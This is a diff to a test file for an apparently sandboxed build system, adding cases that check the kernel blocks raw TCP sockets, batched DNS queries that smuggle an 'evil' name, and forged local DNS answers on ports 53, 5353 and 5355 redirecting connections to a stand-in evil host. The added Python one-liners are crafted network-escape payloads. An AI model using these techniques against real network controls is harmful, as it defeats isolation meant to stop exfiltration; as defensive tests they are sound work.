@@ -196,6 +196,22 @@ describe("the kernel refuses", () => {
       "made a raw socket",
     ],
     [
+      "raw sockets of TCP, whatever is allowed",
+      network(good),
+      python(`import _socket as s; s.socket(2,3,6)`),
+      "Operation not permitted",
+      "made a raw socket",
+    ],
+    [
+      "several questions in one call",
+      allowGood,
+      python(
+        `import _socket as s; q=b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4good\\4test\\0\\0\\1\\0\\1"; a=s.socket(2,2); a.setsockopt(17,103,len(q)); a.sendto(q+q.replace(b"good",b"evil"),("${nameServerAddress}",53))`,
+      ),
+      "Operation not permitted",
+      `asked ${nameServerAddress} for a name`,
+    ],
+    [
       "data in a first packet",
       allowGood,
       python(`import _socket as s; a=s.socket(2,1); a.sendto(b"x",0x20000000,("${evil}",8192))`),
@@ -220,16 +236,20 @@ describe("the kernel refuses", () => {
     expect(outcome.code).not.toBe(0);
   });
 
-  it("whom a step's own server calls by an allowed name", { timeout }, async () => {
-    const answer = `b"\\0\\1\\x81\\0\\0\\1\\0\\1\\0\\0\\0\\0\\4good\\4test\\0\\0\\1\\0\\1\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\1\\0\\4"+s.inet_aton("${evil}")`;
-    const run = python(
-      `import _socket as s; a=s.socket(2,2); a.bind(("127.0.0.77",53)); b=s.socket(2,2); b.bind(("127.0.0.1",0)); a.sendto(${answer},b.getsockname()); b.recv(512); s.socket(2,1).connect(("${evil}",8192))`,
-    );
-    const outcome = await buildWith(network("good.test", "loopback"), { run: `${run}; true` });
-    expect(outcome.log).toContain(`${evil}:8192/tcp`);
-    expect(outcome.log).toContain("Operation not permitted");
-    expect(outcome.code).not.toBe(0);
-  });
+  it.for([53, 5353, 5355])(
+    "whom a step's own server at port %i calls by an allowed name",
+    { timeout },
+    async (port) => {
+      const answer = `b"\\0\\1\\x81\\0\\0\\1\\0\\1\\0\\0\\0\\0\\4good\\4test\\0\\0\\1\\0\\1\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\1\\0\\4"+s.inet_aton("${evil}")`;
+      const run = python(
+        `import _socket as s; a=s.socket(2,2); a.bind(("127.0.0.77",${port})); b=s.socket(2,2); b.bind(("127.0.0.1",0)); a.sendto(${answer},b.getsockname()); b.recv(512); s.socket(2,1).connect(("${evil}",8192))`,
+      );
+      const outcome = await buildWith(network("good.test", "loopback"), { run: `${run}; true` });
+      expect(outcome.log).toContain(`${evil}:8192/tcp`);
+      expect(outcome.log).toContain("Operation not permitted");
+      expect(outcome.code).not.toBe(0);
+    },
+  );
 
   it("programs of Node, too", { timeout }, async () => {
     const run = `node -e 'fetch("${url(evil)}").catch((e) => console.log(e.cause.code))'`;
